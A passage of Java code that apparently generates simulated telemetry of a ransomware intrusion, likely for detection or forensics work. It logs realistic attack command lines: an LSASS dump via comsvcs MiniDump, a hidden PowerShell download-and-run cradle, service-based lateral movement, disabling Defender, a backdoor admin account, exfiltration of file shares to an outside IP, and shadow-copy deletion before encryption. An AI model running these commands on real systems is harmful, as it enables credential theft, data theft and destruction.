        String commandLine = "\"C:\\Windows\\system32\\rundll32.exe\" C:\\WINDOWS\\System32\\comsvcs.dll, MiniDump "
                + lsass.id() + " C:\\ProgramData\\QuillSync\\~qs.tmp full";
        dump(november("17T10:12:08.244"), shell, commandLine, "0x1FFFFF", "C:\\ProgramData\\QuillSync\\~qs.tmp");
    }

    private void dump(Instant at, Run shell, String commandLine, String mask, String file) {
        Run rundll = recorder.start(at, shell, "rundll32.exe", commandLine);
        recorder.load(at.plusMillis(31), rundll, Programs.named("comsvcs.dll"));
        recorder.load(at.plusMillis(55), rundll, Programs.named("dbgcore.dll"));
        String trace = Traces.OPENING + "C:\\Windows\\System32\\comsvcs.dll+2bf31"
                + "|C:\\Windows\\System32\\rundll32.exe+3a4c";
        recorder.open(at.plusMillis(62), rundll, resident(rundll.host(), "lsass"), mask, trace);
        recorder.createFile(at.plusMillis(88), rundll, file);
        recorder.stop(at.plusMillis(1_940), rundll);
    }

    private Run onApplicationServer(Run shell) {
        Run service = moveTo(
                november("17T10:50:22.418"),
                shell,
                applicationServer,
                "NM-APP01",
                "QuillHostSvc",
                "C:\\Windows\\qsvc.exe");
        Run serverShell = recorder.start(november("17T10:51:30.742"), service, "cmd.exe", "cmd.exe");
        Run loader = installLoader(serverShell);
        injectPayload(november("17T10:53:09.110"), loader, "\\qdrift_c09e");
        persistOnApplicationServer(serverShell);
        callHome(november("17T10:53:20.115"), loader, "eu1." + CONTROL_NAME);
        recorder.start(november("17T11:02:40.551"), serverShell, "whoami.exe", "WHOAMI  /ALL");
        String arguments = "group \"domain admins\" /domain";
        Scripts.net(recorder, november("17T11:04:12.019"), serverShell, "net  " + arguments, arguments);
        switchOffDefender(november("18T00:55:20.837"), serverShell);
        String dumpFile = SERVER_FOLDER + "~qs.tmp";
        dump(
                november("18T00:58:47.302"),
                serverShell,
                "rundll32  comsvcs.dll,#24 "
                        + resident(applicationServer, "lsass").id() + " " + dumpFile + " full",
                "0x1fffff",
                dumpFile);
        return serverShell;
    }

    /** Copies the service binary to a server and runs it there as a service. */
    private Run moveTo(Instant at, Run shell, Host target, String name, String service, String imagePath) {
        String copy =
                "copy " + (shell.host().server() ? "C:\\Windows\\qsvc.exe" : "C:\\ProgramData\\QuillSync\\qsvc.exe")
                        + " \\\\" + name + "\\ADMIN$\\qsvc.exe";
        recorder.start(at, shell, "cmd.exe", "cmd  /c " + copy);
        recorder.connect(at.plusMillis(90), resident(shell.host(), "System"), target.address(), 445, target.fullName());
        recorder.logOn(
                at.plusMillis(150), target, stolen, 3, "NTLM", shell.host().address());
        recorder.createFile(at.plusMillis(260), resident(target, "System"), "C:\\Windows\\qsvc.exe");
        recorder.start(
                at.plusMillis(31_000),
                shell,
                "sc.exe",
                "sc  \\\\" + name + " create " + service + " binPath= " + imagePath + " start= demand");
        Run services = resident(target, "services");
        recorder.setValue(
                at.plusMillis(31_190),
                services,
                "HKLM\\System\\CurrentControlSet\\Services\\" + service + "\\ImagePath",
                imagePath);
        recorder.installService(at.plusMillis(31_200), target, service, imagePath, "demand start");
        recorder.start(at.plusMillis(44_000), shell, "sc.exe", "sc  \\\\" + name + " start " + service);
        return recorder.start(at.plusMillis(44_210), services, Tools.SERVICE, "C:\\Windows\\qsvc.exe");
    }

    private Run installLoader(Run shell) {
        String script =
                "IEX (New-Object Net.WebClient).DownloadString('https://eu1.cdn-metrics-relay.com/api/v2/s.ps1')";
        Instant at = november("17T10:52:15.380");
        Run powershell = recorder.start(
                at, shell, "powershell.exe", "powershell  -NoP -W Hidden -EncodedCommand " + Scripts.encoded(script));
        recorder.runScript(at.plusMillis(700), powershell, script);
        recorder.resolve(at.plusMillis(950), powershell, "eu1." + CONTROL_NAME, CONTROL_ADDRESS);
        recorder.connect(at.plusMillis(990), powershell, CONTROL_ADDRESS, 443);
        recorder.createFile(at.plusMillis(2_100), powershell, SERVER_FOLDER + "QSUPDATE.EXE");
        recorder.createFile(at.plusMillis(2_140), powershell, SERVER_FOLDER + "qs.cfg");
        return recorder.start(
                at.plusMillis(40_000),
                powershell,
                Tools.LOADER.at(SERVER_FOLDER + "QSUPDATE.EXE"),
                SERVER_FOLDER + "QSUPDATE.EXE /init");
    }

    private void persistOnApplicationServer(Run shell) {
        Instant at = november("17T10:54:33.900");
        recorder.start(
                at,
                shell,
                "schtasks.exe",
                "SCHTASKS  /create /tn \"quillsync update task\" /tr " + SERVER_FOLDER
                        + "qsupdate.exe /sc daily /st 00:30 /ru SYSTEM /f");
        String task = TASK.toLowerCase(Locale.ROOT);
        registerTask(at.plusMillis(120), applicationServer, Account.SYSTEM, task, SERVER_FOLDER + "qsupdate.exe", "");
        Program loader = Tools.LOADER.at(SERVER_FOLDER + "qsupdate.exe");
        Run scheduler = resident(applicationServer, "Schedule");
        Run run = recorder.start(november("18T00:30:00.241"), scheduler, loader, SERVER_FOLDER + "qsupdate.exe");
        recorder.stop(november("18T00:30:02.960"), run);
    }

    private void switchOffDefender(Instant at, Run shell) {
        Run powershell = recorder.start(at, shell, "powershell.exe", "powershell  -c " + DEFENDER_OFF);
        recorder.runScript(at.plusMillis(600), powershell, DEFENDER_OFF);
        recorder.setValue(
                at.plusMillis(900),
                resident(shell.host(), "Defender"),
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
                "DWORD (0x00000001)");
        recorder.stop(at.plusMillis(1_800), powershell);
    }

    private void onFileServer(Run serverShell) {
        Run service = moveTo(
                november("18T01:25:04.660"),
                serverShell,
                fileServer,
                "nm-fs01",
                "quillhostsvc",
                "c:\\windows\\qsvc.exe");
        Run shell = recorder.start(november("18T01:26:12.018"), service, "cmd.exe", "cmd.exe");
        switchOffDefender(november("18T01:31:45.270"), shell);
        leaveAccount(shell);
        takeData(shell);
        encrypt(shell);
    }

    private void leaveAccount(Run shell) {
        Instant at = november("18T01:33:20.480");
        Scripts.net(recorder, at, shell, "net  user qs_maint Qs!2026-maint /add", "user qs_maint Qs!2026-maint /add");
        recorder.createAccount(
                at.plusMillis(90),
                fileServer,
                Account.SYSTEM,
                "NM-FS01",
                "qs_maint",
                "S-1-5-21-1904417732-660218839-2970335184-1008");
        Scripts.net(
                recorder,
                at.plusSeconds(11),
                shell,
                "net  localgroup Administrators qs_maint /add",
                "localgroup Administrators qs_maint /add");
    }

    private void takeData(Run shell) {
        Run system = resident(fileServer, "System");
        recorder.createFile(november("18T01:48:02.133"), system, "C:\\PerfLogs\\wsync.exe");
        recorder.createFile(november("18T01:48:05.871"), system, "C:\\PerfLogs\\w.conf");
        send(november("18T01:52:30.611"), shell, "c:\\perflogs\\wsync.exe  lsd qsr: --config c:\\perflogs\\w.conf", 1);
        send(
                november("18T01:54:18.942"),
                shell,
                "c:\\perflogs\\wsync.exe  copy \"E:\\Shares\\Finance\" qsr:nm01 --include \"*.{pdf,xlsx,docx}\""
                        + " --transfers 16 --config c:\\perflogs\\w.conf",
                4);
        send(
                november("18T02:21:07.305"),
                shell,
                "C:\\PerfLogs\\wsync.exe  copy E:\\Shares\\HR qsr:nm01 --transfers 16 --config C:\\PerfLogs\\w.conf"
                        + " --no-check-dest",
                3);
    }

    private void send(Instant at, Run shell, String commandLine, int connections) {
        Run rclone = recorder.start(at, shell, Tools.RCLONE, commandLine);
        for (int i = 0; i < connections; i++) {
            recorder.connect(at.plusMillis(650 + i * 41_000L), rclone, "193.201.177.84", 22);
        }
        recorder.stop(at.plus(Duration.ofMinutes(18)), rclone);
    }

    private void encrypt(Run shell) {
        recorder.start(november("18T03:41:50.204"), shell, "vssadmin.exe", "vssadmin  Delete Shadows /All /Quiet");
        recorder.createFile(november("18T03:46:12.770"), resident(fileServer, "System"), Tools.ENCRYPTOR.path());
        Run encryptor = recorder.start(
                november("18T03:47:31.093"),
                shell,
                Tools.ENCRYPTOR,
                "C:\\Windows\\Temp\\ashpelt.exe -p E:\\Shares -n 8");
        Instant at = november("18T03:47:40.500");
        for (String folder : List.of("Finance", "HR", "Sales", "Design", "Quality", "Logistics")) {
            encryptFolder(at, encryptor, "E:\\Shares\\" + folder + "\\");
            at = at.plusMillis(52_340);
        }
        recorder.stop(at.plusSeconds(30), encryptor);
    }

    private void encryptFolder(Instant at, Run encryptor, String folder) {
        for (int i = 1; i <= 4; i++) {
            recorder.createFile(at.plusMillis(i * 180L), encryptor, folder + "Budget 10" + i + "4.xlsx.ashp");
        }
        recorder.createFile(at.plusMillis(940), encryptor, folder + "README_ASHPELT.txt");
    }
}
